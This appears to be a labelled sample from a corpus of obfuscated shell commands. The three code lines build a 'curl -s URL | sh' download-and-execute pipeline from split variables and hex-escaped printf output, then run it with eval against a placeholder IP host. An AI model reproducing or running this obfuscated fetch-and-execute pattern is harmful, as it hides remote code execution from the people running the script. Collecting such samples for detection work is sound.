# corpus: shell command assembled from variables and printf hex escapes, then executed with eval
a=cu; b=rl; c=$(printf '\x73\x68')
u="http://203.0.113.7/$(printf '%s' x)"
eval "$a$b -s $u | $c"
